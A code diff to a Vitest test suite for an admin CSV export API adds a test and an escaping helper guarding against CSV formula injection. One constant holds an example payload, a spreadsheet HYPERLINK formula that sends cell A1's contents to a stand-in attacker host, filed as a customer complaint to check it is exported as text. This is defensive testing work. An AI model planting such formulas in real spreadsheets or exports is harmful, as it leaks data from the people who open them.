@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { appToken } from '../../test/app-tokens';
 import {
   CLEAR_KYC,
   daysFromNow,
@@ -23,6 +24,8 @@ const API = '/api/v1/admin/data';
 /** A name that needs every RFC 4180 rule, and one in Devanagari (the BOM is what makes Excel read it). */
 const AWKWARD = 'Kumar, "Raju"\nSons';
 const HINDI = 'राजेश कुमार';
+/** A complaint that a spreadsheet would run as a formula, sending the sheet's A1 away (OWASP's CSV Injection). */
+const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';
 
 /** Each list screen's call, with the query the screen would send, and its export's name. */
 const LISTS: readonly { path: string; query: string; list: string }[] = [
@@ -47,12 +50,19 @@ const LISTS: readonly { path: string; query: string; list: string }[] = [
   { path: '../audit', query: 'entity=export', list: 'audit-log' },
 ];
 
-/** The cell docs/product/cockpit.md#csv-export writes for a JSON value. */
-function cell(value: unknown): string {
+/** A JSON value's text in a cell (docs/product/cockpit.md#csv-export). */
+function text(value: unknown): string {
   if (value === null || value === undefined) return '';
-  if (Array.isArray(value)) return value.map(cell).join('; ');
+  if (Array.isArray(value)) return value.map(text).join('; ');
   if (typeof value === 'object') return JSON.stringify(value);
   return String(value);
+}
+
+/** The cell docs/product/cockpit.md#csv-export writes for a JSON value: text starting like a formula gets a `'`. */
+function cell(value: unknown): string {
+  if (typeof value === 'number' || typeof value === 'boolean') return String(value);
+  const written = text(value);
+  return /^[=+\-@\t\r]/.test(written) ? `'${written}` : written;
 }
 
 /** The value at a dotted column of a JSON row (undefined under a null object). */
@@ -163,6 +173,39 @@ describe(`CSV export of every list (${testDialect})`, () => {
     expect(records[0]!['kyc_docs.pan']).toBe(json.kyc_docs.pan);
     expect(records[0]!['account_details.accountNumber']).toBe(json.account_details.accountNumber);
     expect(records[0]!['account_details.ifsc']).toBe('HDFC0001234');
+  });
+
+  it("writes a customer's complaint that is a formula as text, and the JSON list as the customer wrote it", async () => {
+    const customer = await appToken(t, 'customer', '9300000001');
+    const profile = await t.request('PUT', '/api/v1/customer/me', {
+      token: customer,
+      body: {
+        customer_name: 'Formula Tester',
+        customer_email: 'formula@example.in',
+        customer_country: 'India',
+        gender: 'Other',
+        customer_address: { street: '1 MG Rd', city: 'Pune', state: 'Maharashtra', zip: '411001' },
+      },
+    });
+    expect(profile.status).toBe(200);
+    const filed = await t.request('POST', '/api/v1/customer/me/complaints', {
+      token: customer,
+      body: { cust_comp_desc: HYPERLINK },
+    });
+    expect(filed.status).toBe(201);
+    const id = filed.body.data.cust_comp_id;
+
+    const json = await get(`${API}/getCUSTOMERCOMPLAINTS?q=Formula%20Tester`);
+    expect(json.body.data.map((row: { cust_comp_id: number }) => row.cust_comp_id)).toEqual([id]);
+    expect(json.body.data[0].cust_comp_desc).toBe(HYPERLINK);
+
+    const res = await getCsv(`${API}/getCUSTOMERCOMPLAINTS?q=Formula%20Tester&format=csv`);
+    expect(res.status).toBe(200);
+    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Refund"")"`);
+    const { records } = parseCsv(res.body);
+    expect(records).toHaveLength(1);
+    expect(records[0]!.cust_comp_id).toBe(String(id));
+    expect(records[0]!.cust_comp_desc).toBe(`'${HYPERLINK}`);
   });
 
   it('answers an empty list with the BOM and the header only', async () => {
